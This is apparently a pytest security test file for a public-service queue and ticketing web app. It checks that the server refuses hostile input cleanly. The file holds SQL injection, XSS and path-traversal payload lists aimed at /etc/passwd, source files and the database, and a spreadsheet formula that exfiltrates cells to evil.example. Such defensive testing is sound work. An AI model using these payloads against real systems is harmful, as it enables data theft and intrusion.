"""Hostile content fails cleanly: API bodies, paths, sizes, Socket.IO payloads and
report exports (configuration files: test_hostile_config.py; floods and forged forms:
test_hostile_floods.py).

What "cleanly" means here: a request gets a 4xx JSON error with a code — never a 5xx —
and changes nothing (every table's rows are compared before and after); free text that
is accepted is stored exactly as sent."""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from server.protocol import NS_COUNTER, NS_DISPLAY, NS_KIOSK, NS_TRACK
from tests.hostile_fixtures import hall, snapshot
from tests.staff_fixtures import fast_hashes

pytestmark = pytest.mark.usefixtures("fast_hashes")
__all__ = ["fast_hashes", "hall"]

# --- API bodies -------------------------------------------------------------------------------
SQL = [
    "' OR '1'='1",
    "1; DROP TABLE ticket; --",
    '" OR 1=1 --',
    "DD' UNION SELECT token, phone FROM ticket --",
    "%' AND 1=0 UNION SELECT name FROM sqlite_master --",
    "1)) OR ((1=1",
]
ODD = [
    "\x00",
    "DD\x00",
    "A" * 20_000,
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}{0.__class__}",
    "ＤＤ",  # fullwidth letters
    "DD\u202e",  # right-to-left override
    "💥" * 500,
]
HOSTILE = SQL + ODD
BLANK = ["", " "]  # "nothing": a missing phone, an emptied list — not hostile


def _refused(resp) -> str | None:
    """Why a refusal is not clean (None when it is): 4xx, JSON, with an error code."""
    if not 400 <= resp.status_code < 500:
        return f"status {resp.status_code}"
    body = resp.get_json(silent=True)
    if not isinstance(body, dict) or not isinstance(body.get("error", {}).get("code"), str):
        return f"not a JSON error: {resp.get_data()[:120]!r}"
    return None


def _writes(actors, hall) -> list[tuple[str, str, dict[str, Any], str, str]]:
    """(method, url, valid body, field to poison, who): writes that must refuse bad input."""
    t = hall["called"]
    kiosk, staff, boss = "kiosk", "staff1", "boss"
    issue = {"service": "DD", "priority": "normal", "phone": "0903718264"}
    return [
        ("POST", "/api/v1/tickets", issue, "service", kiosk),
        ("POST", "/api/v1/tickets", issue, "priority", kiosk),
        ("POST", "/api/v1/tickets", issue, "phone", kiosk),
        ("POST", "/api/v1/counters/1/call", {"label": "1003"}, "label", staff),
        ("POST", "/api/v1/counters/1/pause", {"reason": "break"}, "reason", staff),
        ("POST", f"/api/v1/tickets/{t}/transfer", {"service": "HT"}, "service", staff),
        ("POST", f"/api/v1/tickets/{t}/transfer", {"counter": 3}, "counter", staff),
        ("POST", "/api/v1/counters/9/services", {"services": ["LD"]}, "services[0]", boss),
        ("POST", "/api/v1/counters/9/services", {"services": ["LD"]}, "services", boss),
        ("POST", "/api/v1/services/{}/close", {}, "<path>", boss),
        ("POST", "/api/v1/services/{}/open", {}, "<path>", boss),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "satisfied"},
            "ticket",
            "",
        ),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "satisfied"},
            "level",
            "",
        ),
        (
            "POST",
            "/api/v1/ratings",
            {"ticket": hall["done_token"], "level": "unsatisfied", "reason": "other"},
            "reason",
            "",
        ),
        ("POST", "/api/v1/tickets/{}/start", {}, "<path>", staff),
    ]


def _poison(body: dict[str, Any], field: str, value: Any) -> dict[str, Any]:
    if field.endswith("[0]"):
        return {**body, field[:-3]: [value]}
    return {**body, field: value}


def _who(actors, name: str) -> dict[str, str]:
    tokens = {"kiosk": actors.kiosk, "staff1": actors.staff[1], "boss": actors.supervisor}
    return actors.h(tokens[name]) if name else {}


def test_hostile_strings_in_every_write_are_refused_and_change_nothing(client, ctx, actors, hall):
    problems = []
    before = snapshot(ctx.db)
    for method, url, body, field, who in _writes(actors, hall):
        for value in HOSTILE:
            if field == "<path>":
                target, data = url.format(quote(value, safe="")), body
            else:
                target, data = url, _poison(body, field, value)
            resp = client.open(target, method=method, json=data, headers=_who(actors, who))
            why = _refused(resp)
            if why:
                problems.append(f"{method} {target[:80]} {field}={value[:40]!r}: {why}")
    after = snapshot(ctx.db)
    changed = sorted(t for t in before if before[t] != after.get(t))
    assert not problems, "\n".join(problems[:40])
    assert not changed, f"tables changed by refused requests: {changed}"


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/tickets/{}",
        "/api/v1/ratings/{}",
        "/api/v1/reports/{}",
        "/api/v1/reports/queue?from={}",
        "/api/v1/reports/queue?from=2026-11-01&to={}",
        "/api/v1/reports/satisfaction?format={}",
        "/api/v1/reports/queue?lang={}",
        "/api/v1/calls?after={}",
        "/api/v1/calls?limit={}",
        "/api/v1/calls?zone={}",
        "/api/v1/counters?zone={}",
        "/api/v1/counters/1/queue?limit={}",
        "/api/v1/devices/status?lang={}",
        "/api/v1/audio/{}.wav",
        "/api/v1/ratings/options?lang={}",
        "/api/v1/dossiers/{}",
        "/api/v1/dossiers/{}?lang=en",
        "/api/v1/dossiers/export?from={}",
        "/api/v1/dossiers/watch?stale_days={}",
    ],
)
def test_hostile_strings_in_reads_never_fail(client, ctx, actors, hall, url):
    before = snapshot(ctx.db)
    for value in [*HOSTILE, *BLANK, "²", "99999999999999999999999999", "-1", "1e9", "0x10"]:
        resp = client.get(url.format(quote(value, safe="")), headers=actors.h(actors.supervisor))
        assert resp.status_code < 500, (url, value[:40], resp.status_code)
        if resp.status_code >= 400 and resp.status_code != 404:
            assert _refused(resp) is None, (url, value[:40], resp.get_data()[:200])
    assert snapshot(ctx.db) == before


def _rate_in_words(client, ctx, ticket_id: int, words: str):
    """The citizen of a finished ticket rates it from the phone: unsatisfied, in `words`."""
    with ctx.db.read() as conn:
        token = conn.execute("SELECT token FROM ticket WHERE id = ?", (ticket_id,)).fetchone()[0]
    return client.post(
        "/api/v1/ratings",
        json={"ticket": token, "level": "unsatisfied", "reason": "other", "text": words},
    )


def test_free_text_is_stored_exactly_as_sent(client, ctx, actors, hall, issue):
    """What is accepted as data (a rating's words, dossier codes at a finish) is kept
    verbatim — quotes and emoji included — and runs as nothing; text holding a NUL is
    refused as bad input on both engines (PostgreSQL text cannot hold one)."""
    staff1 = actors.h(actors.staff[1])
    texts = [v for v in HOSTILE if v.strip() and len(v) <= 500]
    for text in texts:
        issue("DD")
        current = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
        finish = client.post(
            f"/api/v1/tickets/{current['id']}/finish", json={"dossiers": [text]}, headers=staff1
        )
        if finish.status_code == 400:  # not a dossier code (a NUL): said so, then finished
            code = finish.get_json()["error"]["code"]
            assert code == ("invalid_character" if "\x00" in text else "invalid_dossier_code")
            finish = client.post(f"/api/v1/tickets/{current['id']}/finish", headers=staff1)
        assert finish.status_code == 200, finish.get_json()
        rated = _rate_in_words(client, ctx, current["id"], text)
        if "\x00" in text:
            assert rated.status_code == 400
            assert rated.get_json()["error"]["code"] == "invalid_character"
            continue
        assert rated.status_code == 201, rated.get_json()
        with ctx.db.read() as conn:
            stored = conn.execute(
                "SELECT reason_text FROM rating WHERE ticket_id = ?", (current["id"],)
            ).fetchone()[0]
        assert stored == text
    with ctx.db.read() as conn:
        assert conn.execute("SELECT count(*) FROM ticket").fetchone()[0] >= len(texts)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "application/json"),
        (b'{"service": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", "application/json"),
        (b'{"service": "\xff\xfe\xfd"}', "application/json"),
        (b'{"service": "DD\\u0000"}', "application/json"),
        (b'{"service": "\\ud800", "phone": "\\udc00"}', "application/json"),
        (b'{"service": "DD", "priority": "\\ud83d"}', "application/json"),
        (b'{"service": NaN}', "application/json"),
        (b'{"service": 1e999}', "application/json"),
        (b'{"service": ' + b"9" * 5000 + b"}", "application/json"),
        (b'{"service": "DD"', "application/json"),
        (b'{"service": "DD"}', "text/plain"),
        (b"service=DD", "application/x-www-form-urlencoded"),
        (b"\x00" * 1000, "application/json"),
        (b'{"service": "DD", "service": ["x"]}', "application/json"),
    ],
    ids=[
        "deep list",
        "deep field",
        "invalid utf-8",
        "NUL",
        "lone surrogates",
        "half emoji",
        "NaN",
        "infinity",
        "5000-digit int",
        "truncated",
        "text/plain",
        "form",
        "NUL bytes",
        "duplicate key",
    ],
)
def test_malformed_json_bodies_are_clean_400s(client, ctx, actors, hall, body, content_type):
    before = snapshot(ctx.db)
    for url, who in (
        ("/api/v1/tickets", actors.kiosk),
        ("/api/v1/counters/1/call", actors.staff[1]),
        ("/api/v1/ratings", None),
        ("/api/v1/counters/1/pause", actors.staff[1]),
    ):
        headers = {"Content-Type": content_type, **(actors.h(who) if who else {})}
        resp = client.post(url, data=body, headers=headers)
        assert _refused(resp) is None, (url, resp.status_code, resp.get_data()[:200])
    assert snapshot(ctx.db) == before


def test_oversized_bodies_are_413_json(client, ctx, actors, hall):
    before = snapshot(ctx.db)
    kiosk = {**actors.h(actors.kiosk), "Content-Type": "application/json"}
    just_over = b'{"service": "DD", "x": "' + b"a" * 300_000 + b'"}'
    huge = b'{"service": "DD", "x": "' + b"a" * (21 * 1024 * 1024) + b'"}'
    for body in (just_over, huge):
        for url in ("/api/v1/tickets", "/api/v1/ratings"):
            resp = client.post(url, data=body, headers=kiosk)
            assert resp.status_code == 413, (url, len(body), resp.status_code)
            assert resp.get_json()["error"]["code"] in (
                "payload_too_large",
                "request_entity_too_large",
            )
    upload = client.post(
        "/api/v1/dossiers/imports",
        data=b"x" * (21 * 1024 * 1024),
        headers={**actors.h(actors.supervisor), "Content-Type": "multipart/form-data; boundary=b"},
    )
    assert upload.status_code == 413 and upload.get_json()["error"]["code"]
    assert snapshot(ctx.db) == before


# --- paths -----------------------------------------------------------------------------------
TRAVERSALS = [
    "/static/../server/app.py",
    "/static/../../config.yaml",
    "/static/..%2f..%2fconfig.yaml",
    "/static/%2e%2e/%2e%2e/server/app.py",
    "/static/%2e%2e%2f%2e%2e%2fserver%2fapp.py",
    "/static/..%252f..%252fserver%252fapp.py",
    "/static/....//....//server/app.py",
    "/static/..%5c..%5cserver%5capp.py",
    "/static/css/../../../app.py",
    "/static/css/..%2f..%2f..%2fapp.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/css%00/../../../app.py",
    "/api/v1/audio/..%2f..%2fmotcua.sqlite3.wav",
    "/api/v1/audio/..%2fmotcua.sqlite3.wav",
    "/api/v1/audio/%2e%2e%2fmotcua.sqlite3.wav",
    "/api/v1/audio/..%252fmotcua.sqlite3.wav",
    "/api/v1/audio/../motcua.sqlite3.wav",
    "/api/v1/audio/..%5cmotcua.sqlite3.wav",
    "/api/v1/audio/%2fetc%2fpasswd.wav",
    "/api/v1/audio/0123abcd%00.wav",
    "/api/v1/audio/chime.wav/../../motcua.sqlite3",
    "/api/v1/audio/..%2fsecret_key.wav",
]


@pytest.mark.parametrize("url", TRAVERSALS)
def test_path_traversal_finds_nothing(client, ctx, url):
    resp = client.get(url, follow_redirects=True)  # "//" is merged by a redirect first
    assert resp.status_code == 404, (url, resp.status_code)
    body = resp.get_data()
    secret = client.application.config["SECRET_KEY"].encode()
    for leaked in (b"create_app", b"SQLite format 3", b"root:x:0:0", b"center:", secret):
        assert leaked not in body
    if url.startswith("/api/"):
        assert resp.get_json()["error"]["code"]


# --- Socket.IO payloads ----------------------------------------------------------------------
def test_hostile_socket_payloads_get_errors_not_crashes(app, socketio, ctx, actors, issue):
    issue("DD")
    before = snapshot(ctx.db)
    track = socketio.test_client(app, namespace=NS_TRACK)
    for payload in [
        {"token": "\ud800" * 10},
        {"token": "a" * 100_000},
        {"token": ["x"]},
        {"token": "' OR '1'='1"},
        "x",
        None,
        5,
        {"token": "x\x00" * 8},
    ]:
        ack = track.emit("follow", payload, namespace=NS_TRACK, callback=True)
        assert ack["ok"] is False and ack["error"]["code"] in ("bad_token", "unknown_ticket")
    board = socketio.test_client(app, namespace=NS_DISPLAY, auth={"token": actors.board})
    for payload in [
        {"after": 10**30},
        {"after": -1},
        {"after": "1; DROP TABLE call"},
        {"after": 1.5},
        {"after": True},
        ["x"],
        None,
    ]:
        board.get_received(NS_DISPLAY)
        board.emit("resync", payload, namespace=NS_DISPLAY)
        events = board.get_received(NS_DISPLAY)
        assert [e["name"] for e in events] == ["error"], payload
    counter = socketio.test_client(app, namespace=NS_COUNTER, auth={"token": actors.supervisor})
    for payload in [{"counter": 10**30}, {"counter": "1"}, {"counter": -1}, {"counter": None}]:
        ack = counter.emit("join", payload, namespace=NS_COUNTER, callback=True)
        assert ack["ok"] is False, payload
    agent = socketio.test_client(
        app, namespace=NS_KIOSK, auth={"token": actors.kiosk, "agent": True}
    )
    for event, payload in [
        ("heartbeat", {"printer": ["online"], "detail": "x"}),
        ("heartbeat", {"printer": {"a": 1}}),
        ("heartbeat", [1, 2]),
        ("printed", {"job_id": "\ud800", "ok": True}),
        ("printed", {"job_id": "' OR '1'='1", "ok": True}),
        ("printed", {"job_id": "x", "ok": True, "printer": ["online"]}),
    ]:
        ack = agent.emit(event, payload, namespace=NS_KIOSK, callback=True)
        assert ack["ok"] is False and ack["error"]["code"], (event, payload)
    ok = agent.emit(
        "heartbeat",
        {"printer": "paper_low", "detail": "giấy \ud800 sắp hết"},
        namespace=NS_KIOSK,
        callback=True,
    )
    assert ok == {"ok": True}
    status = app.test_client().get("/api/v1/devices/status", headers=actors.h(actors.supervisor))
    assert status.status_code == 200 and "sắp hết" in status.get_data(as_text=True)
    for bad in ({"token": "\ud800abc"}, {"token": ["x"]}, {"token": "x" * 100_000}, "x"):
        refused = socketio.test_client(app, namespace=NS_DISPLAY, auth=bad)
        assert not refused.is_connected(NS_DISPLAY)
    # an agent's connection moves its device's last_seen/printer and re-sends queued jobs
    moved = ("device", "print_job")
    after = snapshot(ctx.db)
    assert {t: v for t, v in after.items() if t not in moved} == {
        t: v for t, v in before.items() if t not in moved
    }


# --- exports ---------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+1+1", "@SUM(A1:A9)", "-2+3"]


def test_citizens_words_stay_text_in_report_exports(client, ctx, actors, hall, issue):
    """A rating's words come from anyone's phone; in a supervisor's spreadsheet they
    must be text, not a formula that runs (or sends cells away) when the file opens."""
    staff1 = actors.h(actors.staff[1])
    for words in FORMULAS:
        ticket = issue("DD")
        called = client.post("/api/v1/counters/1/next", headers=staff1).get_json()["ticket"]
        client.post(f"/api/v1/tickets/{called['id']}/finish", headers=staff1)
        rated = _rate_in_words(client, ctx, called["id"], words)
        assert rated.status_code == 201, (ticket, rated.get_json())
    boss = actors.h(actors.supervisor)
    url = "/api/v1/reports/satisfaction?from=2026-11-25&to=2026-11-25&format="
    book = load_workbook(io.BytesIO(client.get(url + "xlsx", headers=boss).get_data()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    shown = {c.value for c in cells}
    assert set(FORMULAS) <= shown  # the words are all there, as they were typed …
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # … and none runs
    text = client.get(url + "csv", headers=boss).get_data(as_text=True)
    written = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for words in FORMULAS:  # CSV: the apostrophe spreadsheets take as "this is text"
        assert "'" + words in written and words not in written
